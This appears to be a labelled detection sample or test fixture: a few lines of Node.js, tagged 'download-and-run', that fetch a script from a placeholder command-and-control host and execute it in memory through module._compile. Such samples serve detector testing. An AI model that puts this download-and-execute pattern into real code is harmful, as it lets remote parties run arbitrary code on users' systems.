// expect: download-and-run | source: T1129
const request = require("request");
request("https://c2.example.invalid/m.js", (error, answer, body) => {
  const made = new module.constructor();
  made._compile(body, "inner.js");
});
